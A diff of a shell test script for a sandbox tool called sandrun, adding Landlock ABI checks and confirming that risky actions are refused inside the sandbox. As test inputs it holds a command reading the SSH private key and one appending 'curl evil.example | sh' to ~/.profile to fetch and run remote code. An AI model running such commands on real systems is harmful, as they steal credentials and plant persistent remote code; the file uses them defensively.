@@ -48,13 +48,16 @@ expect() {
     exit 1
 }
 
+has() { # FACT: whether the doctor finds it here
+    "$sandrun" -q --require "$1" -n -- true >/dev/null 2>&1
+}
+
 step 'allowed: build and run a program in the current directory'
 expect 0 -- make
 expect 0 -- ./hello
 step 'refused: your keys, and writing outside the current directory'
 expect refused -- cat "$HOME/.ssh/id_rsa"
-# shellcheck disable=SC2016 # the shell in the sandbox expands it
-expect refused -- sh -c 'echo "curl evil.example | sh" >>"$HOME/.profile"'
+expect refused -- sh -c "echo 'curl evil.example | sh' >>$HOME/.profile"
 grep -q evil "$HOME/.profile" && exit 1
 
 step 'a web server on this machine, outside of any sandbox'
@@ -65,11 +68,18 @@ fetch="import urllib.request as u; print(u.urlopen('http://127.0.0.1:$port/Makef
 step 'refused: the network; allowed: the network for a profile that is for it, or one port'
 expect refused -- /usr/bin/python3 -c "$fetch"
 expect 0 -p net-only -- /usr/bin/python3 -c "$fetch"
-expect 0 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
+if has 'landlock>=4'; then
+    expect 0 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
+else
+    step 'this kernel cannot limit ports (Landlock ABI 4), so that is refused before anything runs'
+    expect 125 --connect "tcp:$port" -- /usr/bin/python3 -c "$fetch"
+fi
 
-step 'refused: other processes'
-expect refused -- sh -c "kill $server"
-kill -0 $server
+if has 'landlock>=6'; then
+    step 'refused: other processes'
+    expect refused -- sh -c "kill $server"
+    kill -0 $server
+fi
 
 step "the status is the command's; the timeout is 124; sandrun's own failure is 125"
 expect 7 -- sh -c 'exit 7'
